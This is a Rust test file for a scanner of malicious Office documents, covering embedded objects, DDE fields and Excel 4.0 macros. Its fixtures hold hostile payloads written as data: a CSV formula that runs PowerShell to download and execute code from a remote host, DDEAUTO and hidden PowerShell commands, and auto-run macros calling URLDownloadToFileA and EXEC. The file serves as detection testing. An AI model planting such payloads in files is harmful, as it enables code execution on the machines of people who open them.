//! Issue 4, Office items: embedded OLE objects (`office.embedded_object`), DDE
//! (`office.dde`) and Excel 4.0 formulas / SYLK (`office.xlm_macro`). Fixtures built in code
//! (`common::olegen`), then the oletools corpus with the expectations of its GROUND_TRUTH.md.
//!
//! Run: `cargo test --test officex -- --nocapture`

mod common;

use common::olegen::*;
use sha2::{Digest, Sha256};
use tenpu::formats::office::{flat, ole, oleobj, ppt};
use tenpu::formats::PartSource;
use tenpu::{Options, Report, Severity, Verdict};

fn check(bytes: &[u8], name: &str) -> Report {
    tenpu::check(bytes, name, &Options::default())
}

fn dump(r: &Report) -> String {
    let mut s: Vec<String> = r
        .findings
        .iter()
        .map(|f| {
            format!(
                "{} {:?} @{} {:?}: {}",
                f.code,
                f.severity,
                f.path.join(" > "),
                f.tags,
                f.evidence
            )
        })
        .collect();
    s.extend(
        r.objects
            .iter()
            .map(|o| format!("object {} {} {}", o.path.join(" > "), o.kind, o.size)),
    );
    s.join("\n")
}

fn with_code<'a>(r: &'a Report, code: &str) -> Vec<&'a tenpu::Finding> {
    r.findings.iter().filter(|f| f.code == code).collect()
}

fn sha256_hex(b: &[u8]) -> String {
    Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

fn tiny_pe() -> Vec<u8> {
    common::fixtures::tiny_pe()
}

// ------------------------------------------------------------------ embedded objects

#[test]
fn doc_with_embedded_exe_is_dangerous_at_the_payload() {
    let pe = tiny_pe();
    let r = check(&doc_with_package("payload.exe", &pe), "x.doc");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let emb = with_code(&r, "office.embedded_object");
    assert_eq!(emb.len(), 1, "{d}");
    assert_eq!(emb[0].path, vec!["x.doc"]);
    assert_eq!(emb[0].severity, Severity::High);
    assert!(
        emb[0].evidence.contains("\"payload.exe\"")
            && emb[0].evidence.contains(&format!("{} bytes", pe.len())),
        "{d}"
    );
    assert!(
        emb[0]
            .evidence
            .contains("ObjectPool/_1234567890/Ole10Native"),
        "{d}"
    );
    // The payload is checked as its own object, where the executable finding is.
    let exe = with_code(&r, "file.executable");
    assert!(
        exe.iter().any(|f| f.path == vec!["x.doc", "payload.exe"]),
        "{d}"
    );
    let obj = r
        .objects
        .iter()
        .find(|o| o.path == vec!["x.doc", "payload.exe"])
        .expect("payload object");
    assert_eq!(obj.sha256, sha256_hex(&pe));
    assert_eq!(obj.size, pe.len() as u64);
    assert!(r.complete, "{d}");
}

#[test]
fn embedded_package_with_a_text_file_is_still_high() {
    let r = check(&doc_with_package("メモ.txt", "hello".as_bytes()), "x.doc");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let emb = with_code(&r, "office.embedded_object");
    assert!(emb[0].evidence.contains("メモ.txt"), "{d}");
    assert!(
        r.objects
            .iter()
            .any(|o| o.path == vec!["x.doc", "メモ.txt"] && o.size == 5),
        "{d}"
    );
    assert!(with_code(&r, "file.executable").is_empty(), "{d}");
}

#[test]
fn docx_with_package_in_embeddings() {
    let pe = tiny_pe();
    let r = check(&docx_with_package("invoice.pdf.exe", &pe), "x.docx");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let emb = with_code(&r, "office.embedded_object");
    assert!(
        emb.iter()
            .any(|f| f.evidence.contains("word/embeddings/oleObject1.bin")
                && f.evidence.contains("invoice.pdf.exe")),
        "{d}"
    );
    assert!(
        with_code(&r, "file.double_extension")
            .iter()
            .any(|f| f.path == vec!["x.docx", "invoice.pdf.exe"]),
        "{d}"
    );
}

#[test]
fn embedded_ordinary_document_is_medium() {
    let r = check(&docx_with_embedded_xlsx(), "x.docx");
    let d = dump(&r);
    let emb = with_code(&r, "office.embedded_object");
    assert_eq!(emb.len(), 1, "{d}");
    assert_eq!(emb[0].severity, Severity::Medium, "{d}");
    assert_eq!(emb[0].tags, vec!["document"]);
    assert_eq!(r.verdict, Verdict::Suspicious, "{d}");
    assert!(
        r.objects
            .iter()
            .any(|o| o.path == vec!["x.docx", "word/embeddings/Microsoft_Excel_Worksheet.xlsx"]),
        "{d}"
    );

    let r = check(&xls_with_embedded_workbook(), "x.xls");
    let d = dump(&r);
    let emb = with_code(&r, "office.embedded_object");
    assert_eq!(emb.len(), 1, "{d}");
    assert!(emb[0].evidence.contains("MBD0001A2B3"), "{d}");
    assert_eq!(emb[0].severity, Severity::Medium);
}

#[test]
fn equation_editor_object_is_reported() {
    let r = check(&doc_with_equation(), "x.doc");
    let d = dump(&r);
    let emb = with_code(&r, "office.embedded_object");
    assert_eq!(emb.len(), 1, "{d}");
    assert!(
        emb[0].evidence.contains("Equation.3") && emb[0].evidence.contains("ObjectPool/_1111"),
        "{d}"
    );
    assert_eq!(r.verdict, Verdict::Suspicious, "{d}");
}

// ------------------------------------------------------------------ DDE

#[test]
fn docx_with_ddeauto_is_dangerous_with_the_command() {
    let r = check(&docx_with_dde("/k powershell -w hidden -c calc"), "x.docx");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let dde = with_code(&r, "office.dde");
    assert_eq!(dde.len(), 1, "{d}");
    assert!(
        dde[0].evidence.contains(
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -w hidden -c calc\""
        ),
        "{d}"
    );
}

#[test]
fn clean_docx_has_no_findings() {
    let r = check(&docx_clean(), "x.docx");
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
}

#[test]
fn doc_dde_through_the_piece_table() {
    let r = check(&doc_with_dde("/c calc.exe"), "x.doc");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let dde = with_code(&r, "office.dde");
    assert_eq!(dde.len(), 1, "{d}");
    assert!(dde[0].evidence.contains("\"/c calc.exe\""), "{d}");
    // Ordinary fields are not DDE.
    let r = check(
        &doc_with_text("Page \u{13} PAGE \u{14}1\u{15} of \u{13}NUMPAGES\u{15}\r"),
        "x.doc",
    );
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
}

#[test]
fn xlsx_dde_link() {
    let r = check(&xlsx_with_dde_link("cmd", "/c calc.exe"), "x.xlsx");
    let d = dump(&r);
    let dde = with_code(&r, "office.dde");
    assert_eq!(dde.len(), 1, "{d}");
    assert!(dde[0].evidence.ends_with("cmd /c calc.exe"), "{d}");
}

#[test]
fn csv_and_excel_xml_dde() {
    let r = check(
        b"id,name\r\n1,=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0\r\n",
        "list.csv",
    );
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    assert!(
        with_code(&r, "office.dde")[0]
            .evidence
            .contains("=cmd|' /C powershell"),
        "{d}"
    );
    let r = check(b"id,amount\r\n1,-300\r\n2,=SUM(B1:B1)\r\n", "list.csv");
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
    // The same cell in a .txt is not opened by Excel.
    let r = check(b"1,=cmd|' /C calc'!A0\r\n", "notes.txt");
    assert!(with_code(&r, "office.dde").is_empty(), "{}", dump(&r));
    let xml = br#"<?xml version="1.0"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel"><SupBook><Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook></Workbook>"#;
    let r = check(xml, "x.xml");
    assert!(
        with_code(&r, "office.dde")
            .iter()
            .any(|f| f.evidence.contains("cmd|/c calc.exe")),
        "{}",
        dump(&r)
    );
}

// ------------------------------------------------------------------ XLM

#[test]
fn xls_macro_formulas_list_functions() {
    let r = check(
        &xls_macro_sheet_with_formulas(
            &[
                rgce_call_urlmon(),
                rgce_exec("cmd /c calc.exe"),
                rgce_halt(),
            ],
            true,
        ),
        "x.xls",
    );
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let f = with_code(&r, "office.xlm_macro");
    let formulas = f
        .iter()
        .find(|f| f.evidence.contains("formulas"))
        .expect(&d);
    assert!(
        formulas
            .evidence
            .contains("(3 cells) call: CALL, EXEC, HALT"),
        "{d}"
    );
    assert!(
        formulas.evidence.contains("\"URLDownloadToFileA\"")
            && formulas.evidence.contains("\"cmd /c calc.exe\""),
        "{d}"
    );
    assert_eq!(formulas.tags, vec!["auto_open", "exec"]);
    // HALT alone, no Auto_Open: no tags, but still an XLM macro.
    let r = check(
        &xls_macro_sheet_with_formulas(&[rgce_halt()], false),
        "x.xls",
    );
    let f = with_code(&r, "office.xlm_macro");
    let formulas = f
        .iter()
        .find(|f| f.evidence.contains("formulas"))
        .expect("formulas finding");
    assert!(formulas.tags.is_empty(), "{}", dump(&r));
    assert!(formulas.evidence.contains("call: HALT"));
}

#[test]
fn sylk_auto_open_and_plain() {
    let r = check(&sylk_auto_open("calc.exe"), "x.slk");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    let f = with_code(&r, "office.xlm_macro");
    assert_eq!(f.len(), 1, "{d}");
    assert_eq!(f[0].tags, vec!["auto_open", "exec"]);
    assert!(
        f[0].evidence.contains("Auto_Open") && f[0].evidence.contains("EXEC(\"calc.exe\")"),
        "{d}"
    );
    assert!(with_code(&r, "file.not_inspected").is_empty(), "{d}");
    let r = check(&sylk_plain(), "x.slk");
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
}

// ------------------------------------------------------------------ corpus

/// MD5 (RFC 1321), for the digests oletools' GROUND_TRUTH records.
fn md5_hex(input: &[u8]) -> String {
    const S: [u32; 64] = [
        7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22, 5, 9, 14, 20, 5, 9, 14, 20, 5,
        9, 14, 20, 5, 9, 14, 20, 4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23, 6, 10,
        15, 21, 6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21,
    ];
    let k: Vec<u32> = (0..64)
        .map(|i| ((i as f64 + 1.0).sin().abs() * 4294967296.0) as u32)
        .collect();
    let (mut a0, mut b0, mut c0, mut d0) =
        (0x67452301u32, 0xefcdab89u32, 0x98badcfeu32, 0x10325476u32);
    let mut msg = input.to_vec();
    msg.push(0x80);
    while msg.len() % 64 != 56 {
        msg.push(0);
    }
    msg.extend_from_slice(&((input.len() as u64).wrapping_mul(8)).to_le_bytes());
    for chunk in msg.chunks(64) {
        let m: Vec<u32> = chunk
            .chunks(4)
            .map(|w| u32::from_le_bytes([w[0], w[1], w[2], w[3]]))
            .collect();
        let (mut a, mut b, mut c, mut d) = (a0, b0, c0, d0);
        for i in 0..64 {
            let (f, g) = match i / 16 {
                0 => ((b & c) | (!b & d), i),
                1 => ((d & b) | (!d & c), (5 * i + 1) % 16),
                2 => (b ^ c ^ d, (3 * i + 5) % 16),
                _ => (c ^ (b | !d), (7 * i) % 16),
            };
            let f = f.wrapping_add(a).wrapping_add(k[i]).wrapping_add(m[g]);
            a = d;
            d = c;
            c = b;
            b = b.wrapping_add(f.rotate_left(S[i]));
        }
        a0 = a0.wrapping_add(a);
        b0 = b0.wrapping_add(b);
        c0 = c0.wrapping_add(c);
        d0 = d0.wrapping_add(d);
    }
    [a0, b0, c0, d0]
        .iter()
        .flat_map(|v| v.to_le_bytes())
        .map(|x| format!("{x:02x}"))
        .collect()
}

#[test]
fn md5_known_answers() {
    assert_eq!(md5_hex(b""), "d41d8cd98f00b204e9800998ecf8427e");
    assert_eq!(
        md5_hex(b"The quick brown fox jumps over the lazy dog"),
        "9e107d9d372bb6826bd81d3542a419d6"
    );
}

/// Every OLE Package payload in a file, found with the library's parsers (compound files,
/// PowerPoint ExOleObjStg records, ZIP parts), as (file name, bytes).
fn packages_in(bytes: &[u8], out: &mut Vec<(String, Vec<u8>)>, depth: usize) {
    if depth > 4 {
        return;
    }
    if let Ok(cfb) = ole::Cfb::open(bytes) {
        for e in cfb.entries.iter().filter(|e| e.name == "\u{1}Ole10Native") {
            let data = cfb.read(e, 64 << 20).unwrap();
            if let Some(p) = oleobj::parse_package(&data) {
                if !p.link {
                    out.push((p.file_name(), p.data.to_vec()));
                }
            }
        }
        if let Some(doc) = cfb.find(&["PowerPoint Document"]) {
            let data = cfb.read(doc, 64 << 20).unwrap();
            let (storages, _) = ppt::embedded_storages(&data, 64 << 20, &mut |_| true);
            for s in storages {
                packages_in(&s, out, depth + 1);
            }
        }
    } else if bytes.starts_with(b"<?xml") {
        // Flat OPC parts and Word 2003 XML binData (oledata.mso streams are zlib after a header).
        let text = String::from_utf8_lossy(bytes);
        let mut parts = flat::FlatParts::parse(&text);
        let opts = Options::default();
        let mut ctx = tenpu::engine::Ctx::new(&opts);
        for n in parts.part_names() {
            if let Some(Ok(d)) = parts.read_part(&mut ctx, &n) {
                packages_in(&d, out, depth + 1);
            }
        }
        for (_, d) in flat::bin_data(&text) {
            if let Ok(cfb) = ole::Cfb::open(&d) {
                for e in cfb
                    .entries
                    .iter()
                    .filter(|e| e.kind == ole::EntryKind::Stream)
                {
                    let s = cfb.read(e, 64 << 20).unwrap();
                    if let Some(inner) = flat::zlib_cfb(&s, 64, 64 << 20) {
                        packages_in(&inner, out, depth + 1);
                    }
                }
            }
        }
    } else if bytes.starts_with(b"PK") {
        if let Ok(parts) = MapParts::from_zip(bytes) {
            for data in parts.parts.values() {
                packages_in(data, out, depth + 1);
            }
        }
    }
}

#[test]
fn corpus_oleobj_payloads() {
    let Some(dir) = common::corpus_dir() else {
        eprintln!("skipping: ../shared/corpus absent");
        return;
    };
    let base = dir.join("oletools/test-data/oleobj");
    let doc_txt = "bd5c063a5a43f67b3c50dc7b0f1195af";
    let other_txt = "ab8c65e4c0fc51739aa66ca5888265b4";
    let mut cases: Vec<(String, &str, Option<&str>)> = vec![
        (
            "sample_with_calc_embedded.doc".into(),
            "calc.exe",
            Some("40e85286357723f326980a3b30f84e4f"),
        ),
        (
            "sample_with_lnk_file.doc".into(),
            "calc.lnk",
            Some("6aedb1a876d4ad5236f1fbbbeb7274f3"),
        ),
        (
            "sample_with_lnk_file.pps".into(),
            "calc.lnk",
            Some("6aedb1a876d4ad5236f1fbbbeb7274f3"),
        ),
        (
            "sample_with_lnk_file.ppt".into(),
            "calc.lnk",
            Some("6aedb1a876d4ad5236f1fbbbeb7274f3"),
        ),
        (
            "embedded-unicode.doc".into(),
            "ünicöde-수식끝이잘못되었습니다.txt",
            None,
        ),
        (
            "embedded-unicode-2007.docx".into(),
            "ünicöde-수식끝이잘못되었습니다.txt",
            None,
        ),
        (
            "embedded-simple-2007-as2003.xml".into(),
            "simple-text-file.txt",
            Some(doc_txt),
        ),
    ];
    for ext in ["doc", "dot", "docx", "docm", "dotx", "dotm", "odt", "xml"] {
        cases.push((
            format!("embedded-simple-2007.{ext}"),
            "simple-text-file.txt",
            Some(doc_txt),
        ));
    }
    for ext in [
        "xls", "xlsx", "xlsm", "xlsb", "xla", "xlam", "xlt", "xltm", "xltx", "ppt", "pptx", "pptm",
        "pot", "potx", "potm", "pps", "ppsx", "ppsm", "ods", "odp",
    ] {
        cases.push((
            format!("embedded-simple-2007.{ext}"),
            "simple-text-file.txt",
            Some(other_txt),
        ));
    }
    let (mut ok, mut seen) = (0, 0);
    let mut failures = Vec::new();
    for (file, want_name, want_md5) in &cases {
        let path = base.join(file);
        let Ok(bytes) = std::fs::read(&path) else {
            eprintln!("missing {file}");
            continue;
        };
        seen += 1;
        let r = check(&bytes, file);
        let emb = with_code(&r, "office.embedded_object");
        let finding_ok = emb.iter().any(|f| {
            f.severity == Severity::High && f.evidence.contains(&format!("\"{want_name}\""))
        });
        // The object handed to analyze: a direct child of the document, or (ODF, where the
        // package is inside a ZIP entry) deeper.
        let obj = r.objects.iter().find(|o| {
            o.name == *want_name && o.path.last().map(String::as_str) == Some(*want_name)
        });
        let mut payloads = Vec::new();
        packages_in(&bytes, &mut payloads, 0);
        let payload = payloads.iter().find(|(n, _)| n == want_name);
        let md5_ok = match (want_md5, payload) {
            (Some(m), Some((_, data))) => md5_hex(data) == *m,
            (None, Some(_)) => true,
            _ => false,
        };
        let sha_ok = match (obj, payload) {
            (Some(o), Some((_, data))) => o.sha256 == sha256_hex(data),
            _ => false,
        };
        if finding_ok && md5_ok && sha_ok && r.verdict == Verdict::Dangerous {
            ok += 1;
        } else {
            failures.push(format!(
                "{file}: finding {finding_ok}, md5 {md5_ok}, object sha256 {sha_ok}\n{}",
                dump(&r)
            ));
        }
    }
    println!("oleobj payloads: {ok}/{seen} files give the expected file name, MD5 and object");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    // The link (not embedded) sample: reported, nothing to hand on.
    if let Ok(b) = std::fs::read(base.join("sample_with_lnk_to_calc.doc")) {
        let r = check(&b, "sample_with_lnk_to_calc.doc");
        assert!(
            !with_code(&r, "office.embedded_object").is_empty(),
            "{}",
            dump(&r)
        );
    }
}

#[test]
fn corpus_dde() {
    let Some(dir) = common::corpus_dir() else {
        eprintln!("skipping: ../shared/corpus absent");
        return;
    };
    let o = dir.join("oletools");
    let positive = [
        "test-data/msodde/dde-test.docx",
        "test-data/msodde/dde-test.docm",
        "test-data/msodde/dde-test.xlsx",
        "test-data/msodde/dde-test.xlsm",
        "test-data/msodde/dde-test.xlsb",
        "decrypted/msodde/dde-test-from-office2003.doc",
        "decrypted/msodde/dde-test-from-office2016.doc",
        "decrypted/msodde/dde-test-from-office2013-utf_16le-korean.doc",
        "decrypted/msodde/dde-in-word2003.xml",
        "decrypted/msodde/dde-in-word2007.xml",
        "decrypted/ooxml/dde-in-word2003.xml",
        "test-data/msodde/dde-in-excel2003.xml",
        "test-data/ooxml/dde-in-excel2003.xml",
        "test-data/msodde/dde-in-csv.csv",
    ];
    let negative = [
        "test-data/msodde/harmless-clean.doc",
        "test-data/msodde/harmless-clean.docx",
        "test-data/msodde/harmless-clean.docm",
        "test-data/msodde/harmless-clean.xml",
        "test-data/msodde/harmless-clean-2003.xml",
        "test-data/ooxml/harmless-clean.xml",
        "test-data/ooxml/harmless-clean-2003.xml",
    ];
    let mut failures = Vec::new();
    let (mut pos_ok, mut pos_n, mut neg_ok, mut neg_n) = (0, 0, 0, 0);
    for p in positive {
        let Ok(b) = std::fs::read(o.join(p)) else {
            continue;
        };
        pos_n += 1;
        let name = p.rsplit('/').next().unwrap();
        let r = check(&b, name);
        let dde = with_code(&r, "office.dde");
        // Excel ones: exactly `cmd /c calc.exe`; Word ones run cmd.exe with calc.
        let excel = name.starts_with("dde-test.xls");
        let good = !dde.is_empty()
            && r.verdict == Verdict::Dangerous
            && if excel {
                dde.iter()
                    .all(|f| f.evidence.ends_with(": cmd /c calc.exe"))
            } else {
                dde.iter().any(|f| f.evidence.contains("calc"))
            };
        if good {
            pos_ok += 1;
        } else {
            failures.push(format!("{p}: expected DDE\n{}", dump(&r)));
        }
    }
    for p in negative {
        let Ok(b) = std::fs::read(o.join(p)) else {
            continue;
        };
        neg_n += 1;
        let name = p.rsplit('/').next().unwrap();
        let r = check(&b, name);
        if with_code(&r, "office.dde").is_empty() && r.verdict == Verdict::NoFindings {
            neg_ok += 1;
        } else {
            failures.push(format!("{p}: expected nothing\n{}", dump(&r)));
        }
    }
    println!("msodde: DDE found in {pos_ok}/{pos_n} positive files; {neg_ok}/{neg_n} harmless-clean files have no findings");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn corpus_excel4_macros() {
    let Some(dir) = common::corpus_dir() else {
        eprintln!("skipping: ../shared/corpus absent");
        return;
    };
    let base = dir.join("oletools/test-data/excel4-macros");
    let mut failures = Vec::new();
    let mut n = 0;
    for (file, want_sheet_state, want_calls) in [
        ("excel4_sample_macro.xls", true, Some("ALERT, HALT")),
        ("excel4_sample_macro.xlt", true, Some("ALERT, HALT")),
        ("excel4_sample_macro.xlsb", true, Some("ALERT, HALT")),
        ("excel4_sample_macro.xlsm", true, Some("ALERT, HALT")),
        ("excel4_sample_macro.xltm", true, Some("ALERT, HALT")),
        ("excel4_sample_macro_excel5_format.xls", true, None),
        ("excel4_sample_macro.slk", false, Some("ALERT, HALT")),
    ] {
        let Ok(b) = std::fs::read(base.join(file)) else {
            continue;
        };
        n += 1;
        let r = check(&b, file);
        let x = with_code(&r, "office.xlm_macro");
        // BIFF5 defined names (Lbl) are not parsed: the Excel 5 sample's Auto_Open is not seen
        // (its macro sheet is).
        let biff5 = file.ends_with("excel5_format.xls");
        let auto_open = biff5 || x.iter().any(|f| f.evidence.contains("Auto_Open"));
        let sheet = !want_sheet_state
            || x.iter()
                .any(|f| f.evidence.contains("macro sheet \"Macro1\" (visible)"));
        let calls = want_calls.is_none_or(|c| x.iter().any(|f| f.evidence.contains(c)));
        if !(r.verdict == Verdict::Dangerous && auto_open && sheet && calls) {
            failures.push(format!(
                "{file}: auto_open {auto_open} sheet {sheet} calls {calls}\n{}",
                dump(&r)
            ));
        }
    }
    println!(
        "excel4-macros: {}/{n} files as expected",
        n - failures.len()
    );
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

// ------------------------------------------------------------------ one-file XML documents

#[test]
fn flat_opc_gets_the_ooxml_checks() {
    let bin = vba_project_bin(&[(
        "Module1",
        "Sub AutoOpen()\n  Shell \"cmd /c calc\"\nEnd Sub\n",
    )]);
    let pe = tiny_pe();
    let obj = ole_object_bin("run.exe", &pe);
    let x = flat_opc_word(
        r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/></w:p></w:body></w:document>"#,
        &[
            ("word/vbaProject.bin", &bin),
            ("word/embeddings/oleObject1.bin", &obj),
        ],
    );
    let r = check(&x, "x.xml");
    let d = dump(&r);
    assert_eq!(r.verdict, Verdict::Dangerous, "{d}");
    assert!(!with_code(&r, "office.vba_autoexec").is_empty(), "{d}");
    assert!(
        with_code(&r, "office.dde")
            .iter()
            .any(|f| f.evidence.contains("DDEAUTO cmd \"/c calc\"")),
        "{d}"
    );
    let obj = r
        .objects
        .iter()
        .find(|o| o.path == vec!["x.xml", "run.exe"])
        .expect(&d);
    assert_eq!(obj.sha256, sha256_hex(&pe));
    // Word 2003 XML.
    let r = check(&word2003_xml_with_dde("/c calc.exe"), "x.doc");
    assert!(
        with_code(&r, "office.dde")
            .iter()
            .any(|f| f.evidence.contains("\"/c calc.exe\"")),
        "{}",
        dump(&r)
    );
    // An ordinary XML file is left alone.
    let r = check(
        b"<?xml version=\"1.0\"?><config><instrText>DDEAUTO x</instrText></config>",
        "c.xml",
    );
    assert_eq!(r.verdict, Verdict::NoFindings, "{}", dump(&r));
}

/// strelka's fixtures (GROUND_TRUTH.md): Word documents with an embedded benign PE, and an
/// XLM workbook.
#[test]
fn corpus_strelka_objects_and_xlm() {
    let Some(dir) = common::corpus_dir() else {
        eprintln!("skipping: ../shared/corpus absent");
        return;
    };
    let base = dir.join("strelka/fixtures");
    let mut n = 0;
    for file in ["test_pe_object.doc", "test_pe_object_classic.doc"] {
        let Ok(b) = std::fs::read(base.join(file)) else {
            continue;
        };
        n += 1;
        let r = check(&b, file);
        let d = dump(&r);
        assert!(
            with_code(&r, "office.embedded_object")
                .iter()
                .any(|f| f.evidence.contains("\"test.exe\"") && f.evidence.contains(", pe")),
            "{d}"
        );
        assert!(
            with_code(&r, "file.executable")
                .iter()
                .any(|f| f.path == vec![file, "test.exe"]),
            "{d}"
        );
        assert!(
            r.objects
                .iter()
                .any(|o| o.path == vec![file, "test.exe"] && o.kind == "pe"),
            "{d}"
        );
    }
    if let Ok(b) = std::fs::read(base.join("test.xls")) {
        n += 1;
        let r = check(&b, "test.xls");
        assert!(
            with_code(&r, "office.xlm_macro")
                .iter()
                .any(|f| f.evidence.contains("formulas") && f.evidence.contains("HALT")),
            "{}",
            dump(&r)
        );
    }
    println!("strelka: {n} files checked");
}
